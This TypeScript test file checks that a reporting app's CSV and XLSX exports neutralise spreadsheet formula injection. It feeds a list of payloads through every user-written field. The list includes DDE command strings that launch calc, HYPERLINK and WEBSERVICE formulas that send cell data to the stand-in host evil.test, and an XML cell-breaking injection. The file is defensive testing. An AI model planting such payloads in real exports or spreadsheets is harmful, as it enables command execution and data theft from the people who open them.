import { strFromU8, unzipSync } from 'fflate'
import { beforeEach, describe, expect, test, vi } from 'vitest'
import type { AccountRow } from '@/lib/accounts/admin/types'
import type { RegisteredTargets } from '@/lib/activities/pledge/types'
import type { PracticeListItem } from '@/lib/activities/practices/types'
import type { AwardDto } from '@/lib/awards/types'
import { clusterTable, nationalTable } from '@/lib/documents/sheet-cluster'
import { entryBook } from '@/lib/documents/sheet-entry'
import {
  accountTable,
  awardTable,
  completenessTables,
  practiceTable,
  scoreTable,
  taskTable,
} from '@/lib/documents/sheet-lists'
import { targetTable } from '@/lib/documents/sheet-targets'
import { unitTable } from '@/lib/documents/sheet-unit'
import type { IndicatorDto } from '@/lib/indicators/types'
import type { MyTaskDto } from '@/lib/meetings/types'
import { writeCsv } from '@/lib/platform/files/csv'
import { tableSheet } from '@/lib/platform/files/table'
import type { Table } from '@/lib/platform/files/types'
import { writeXlsx } from '@/lib/platform/files/xlsx'
import type { Completeness, ReportDto } from '@/lib/reports/types'
import type { ScoreBoard } from '@/lib/scoring/types'
import { summariseClusterYear } from '@/lib/summaries/rules'
import type { TableInput } from '@/lib/summaries/types'
import { summariseUnitYear } from '@/lib/summaries/unit-years/rules'
import type { UnitYear } from '@/lib/summaries/unit-years/types'

const MADE_AT = '2026-11-22T08:00:00.000Z'
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?"&A1,"Bấm vào đây")',
  '=WEBSERVICE("http://evil.test")',
  '+1+1',
  '+84912345678',
  "-2+3+cmd|' /C calc'!A0",
  '-5',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1',
  ';=1+1;',
  '＝1+1',
  '％＝',
  '|calc',
  '_x003D_1+1</t></is></c><c r="A1"><f>1+1</f></c>',
]
const day = '2026-11-01'

/** Everything a person writes carries the payload. */
function dangerous(text: string): Table[] {
  const indicator = {
    id: 'i1',
    setId: 's1',
    code: text,
    name: text,
    shortName: text,
    group: { id: 'g', name: text, position: 1 },
    kind: 'TEXT',
    measureUnit: text,
    displayUnit: null,
    decimals: 0,
    direction: 'HIGHER_IS_BETTER',
    aggregation: 'NONE',
    nature: 'FLOW',
    parts: [],
    breakdown: [text],
    bands: [],
    lastId: null,
  } as unknown as IndicatorDto & { lastId: null }
  const count = { ...indicator, id: 'i2', kind: 'COUNT', aggregation: 'SUM' } as typeof indicator
  const unit = { id: 'u', slug: 'u', name: text }
  const cells = { i1: { m: { w: text, v: 1 } }, i2: { m: { w: text, q: 'UNKNOWN_SIZE', v: 1 } } }
  const report = {
    unitId: 'u',
    reportId: 'r',
    state: 'CONFIRMED',
    sentBefore: true,
    closed: false,
    illustrative: false,
    lateDays: 0,
    cells,
    targets: cells,
    last: {},
    notAssigned: [],
  }
  const input = {
    year: 2026,
    period: 'YEAR_FINAL',
    units: [unit],
    indicators: [indicator, count],
    reports: [report],
    reported: [{ indicatorId: 'i2', raw: text, value: null, note: text, source: null }],
    collected: true,
  } as unknown as TableInput
  const summary = summariseClusterYear(input)
  const about = { title: text, notes: [text] }
  const source = { slug: 's', letter: null, title: text, factId: null }
  const unitYear = {
    theme: text,
    clusters: [],
    indicators: [indicator, count],
    notAssigned: [],
    years: [2026],
    reports: [
      {
        reportId: 'r',
        period: 'YEAR_FINAL',
        state: 'CONFIRMED',
        sentBefore: true,
        illustrative: false,
        lateDays: 0,
        sentAt: null,
        dueAt: null,
        source: null,
        cells,
        written: { i1: { raw: text, factId: null, note: text, breakdown: [{ label: text, amount: '1' }] } },
        narrative: [],
      },
    ],
  } as unknown as UnitYear
  const award = {
    year: 2026,
    type: { name: text, issuer: text },
    recipientKind: 'PERSON',
    recipient: text,
    unit,
    decision: { number: text, decidedOn: day, signer: text },
    prize: { amount: 1, multiple: '8', salary: 2_340_000, legalBasis: text, salaryBasis: text },
    note: text,
    source,
    proposedType: text,
    illustrative: false,
  } as unknown as AwardDto
  const task = {
    text,
    unit,
    dueOn: day,
    state: 'OPEN',
    meeting: { title: text, heldOn: day },
    conclusion: text,
  } as unknown as MyTaskDto
  const practice = {
    title: text,
    summary: text,
    year: 2026,
    unit,
    cluster: { name: text },
    campaign: { name: text },
    sharedAt: null,
    source,
    illustrative: false,
  } as unknown as PracticeListItem
  const account = {
    name: text,
    email: text,
    grants: [{ role: 'PROVINCE_STAFF', scope: text }],
    state: 'active',
    lastSeenAt: null,
  } as unknown as AccountRow
  const completeness = {
    period: { kind: 'YEAR_FINAL', year: 2026, dueAt: null },
    rows: [{ unit, clusterYear: { title: text }, sent: false, state: null, sentAt: null, lateDays: 1 }],
  } as unknown as Completeness
  const board = {
    rubric: { name: text, total: '100', illustrative: false },
    rows: [{ unit, subGroup: text, result: { total: '90.5', rank: 1, className: text } }],
  } as unknown as ScoreBoard
  const targets = {
    indicators: [indicator],
    units: [{ unitId: 'u', state: 'SENT', illustrative: false, values: { i1: { kind: 'TEXT', text } } }],
  } as unknown as RegisteredTargets
  return [
    clusterTable(summary, {
      name: text,
      year: 2026,
      period: 'YEAR_FINAL',
      illustrative: true,
      notes: [text],
    }),
    nationalTable(summary, {
      year: 2026,
      period: 'YEAR_FINAL',
      clusterOf: new Map([['u', text]]),
      illustrative: true,
      notes: [text],
    }),
    unitTable(text, 2026, summariseUnitYear(unit, unitYear), { notes: [text], illustrative: true }),
    ...completenessTables([completeness], about),
    scoreTable(board, about),
    awardTable([award], about),
    practiceTable([practice], about),
    taskTable([task], about),
    accountTable([account], about),
    targetTable(targets, [unit], about),
  ]
}

const OURS = /^(SUM|MAX)\([A-Z]+\d+:[A-Z]+\d+\)$|^IF\([A-Z]+\d+=0,&quot;&quot;,[A-Z]+\d+\/[A-Z]+\d+\)$/

/** Formulas of a workbook that our own code did not make, and cells that are not of a known type. */
function foreignFormulas(bytes: Uint8Array): string[] {
  const parts = Object.entries(unzipSync(bytes)).filter(([name]) => name.includes('worksheets/'))
  return parts.flatMap(([, content]) => {
    const xml = strFromU8(content)
    const formulas = [...xml.matchAll(/<f>(.*?)<\/f>/gs)].map(([, formula]) => formula ?? '')
    return [
      ...formulas.filter((formula) => !OURS.test(formula)),
      ...(/t="str"|<f [^>]*>|<hyperlink/.exec(xml) ?? []),
    ]
  })
}

/** Fields of a CSV, unquoted. */
function fieldsOf(csv: string): string[] {
  const fields: string[] = []
  for (const [, quoted, bare] of csv.slice(1).matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;"\r\n]*))/g))
    fields.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'))
  return fields
}

beforeEach(() => {
  vi.stubEnv('AUTH_SECRET', 'a secret for tests that is long enough to be one')
  vi.stubEnv('DATABASE_URL', 'postgresql://localhost/none')
})

describe('P7 text in every field of every table never leaves as a formula', () => {
  test.each(PAYLOADS.map((payload) => [payload]))('%j', (payload) => {
    const tables = dangerous(payload)
    const workbook = writeXlsx({
      title: payload,
      madeAt: MADE_AT,
      sheets: tables.map((table) => tableSheet(table, payload)),
    })
    expect(foreignFormulas(workbook)).toEqual([])
    for (const table of tables) {
      const fields = fieldsOf(new TextDecoder('utf-8', { ignoreBOM: true }).decode(writeCsv([table])))
      const running = fields.filter(
        (field) => /^[\s\u00a0]*[=+\-@|%＝＋－＠％\t\r\n]/u.test(field) && !/^-?\d+(,\d+)?%?$/.test(field),
      )
      expect(running).toEqual([])
      expect(fields.some((field) => field.includes(payload.slice(-3).replaceAll('\0', '')))).toBe(true)
    }
  })

  test.each(PAYLOADS.map((payload) => [payload]))('nor in the form of a report: %j', (payload) => {
    const cell = {
      indicator: {
        id: 'i',
        setId: 's',
        code: payload,
        name: payload,
        group: { id: 'g', name: payload },
        kind: 'TEXT',
        measureUnit: payload,
        displayUnit: null,
        nature: 'FLOW',
        parts: [],
        breakdown: [],
        definition: payload,
        definitionSource: payload,
      },
      notAssigned: false,
      figure: {
        raw: payload,
        value: { kind: 'TEXT', text: payload },
        breakdown: null,
        blankReason: null,
        note: payload,
        version: 1,
      },
      toDate: null,
      lastYear: { raw: payload },
      registeredTarget: { raw: payload },
      assignedTarget: { raw: payload },
      provincialTarget: null,
    }
    const report = {
      id: 'r',
      unit: { id: 'u', slug: 'u', name: payload },
      period: { id: 'p', kind: 'YEAR_FINAL', year: 2026 },
      illustrative: false,
      cells: [cell],
    } as unknown as ReportDto
    expect(foreignFormulas(writeXlsx(entryBook(report, [], MADE_AT)))).toEqual([])
  })
})
